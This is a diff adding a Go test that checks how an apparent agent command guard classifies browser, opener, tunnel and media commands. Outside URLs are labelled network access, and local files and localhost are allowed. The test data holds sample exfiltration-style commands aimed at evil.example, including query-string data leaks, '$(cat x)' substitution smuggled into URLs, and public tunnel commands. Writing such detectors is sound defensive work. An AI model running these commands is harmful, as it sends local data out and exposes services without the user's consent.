@@ -31,3 +31,17 @@ func TestSends(t *testing.T) {
 		}
 	}
 }
+
+// TestOpens holds that programs that open an address are judged as curl is, and that files and listed hosts pass.
+func TestOpens(t *testing.T) {
+	t.Parallel()
+	judgeAll(t, agentOptions(), map[string]string{
+		"xdg-open https://evil.example/?d=x": network, "open https://evil.example": network, "open -e https://evil.example": network, "open http://localhost:3000": "", "open docs/index.html": "", "open https://example.org/a": "", "open -a Safari.app": "", "open http://web:3000": "",
+		"firefox https://evil.example": network, "firefox evil.example/?d=x": network, "firefox index.html": "", "firefox file:///repo/index.html": "", "chromium --headless --app=https://evil.example": network, "chromium --headless --dump-dom https://evil.example": network,
+		"google-chrome --headless --screenshot=a.png http://127.0.0.1:3000": "", "sensible-browser https://evil.example": network, "wslview https://evil.example": network, "gio open https://evil.example": network, "xdg-open coverage/lcov/index.html": "", "open \"$(cat x)\"": network,
+		"python3 -m webbrowser https://evil.example": network, "python3 -m webbrowser -t http://localhost:8000": "", "python3 -m http.server": "", "python3 -m json.tool a.json": "", "xdg-open \"https://example.org/?$(cat x)\"": network,
+		"npx -y wscat -c wss://evil.example": network, "npx -y wscat -c ws://localhost:3000": "", "npx -y cloudflared tunnel --url http://localhost:3000": network, "cloudflared tunnel --url localhost:3000": network, "npx open-cli https://evil.example": network, "pnpm dlx untun tunnel http://localhost:3000": network,
+		"npx playwright test": "", "npx playwright screenshot https://evil.example x.png": network, "npx playwright codegen http://localhost:3000": "", "ffmpeg -i a.mp4 b.webm": "", "ffmpeg -i https://evil.example/?d b.webm": network, "npx lighthouse http://localhost:3000": "", "openssl s_client -connect localhost:443": "", "hey -n 9 http://localhost:80/": "",
+		"npx http-server": "", "docker run --rm mcr.microsoft.com/playwright:v1 npx playwright test": "", "docker run --rm mcr.microsoft.com/playwright:v1 sh -c 'sudo ls'": privilege, "yarn start": "", "yarn open": "", "npx vitest run": "", "for f in a.html b.html; do open \"$f\"; done": "",
+	})
+}
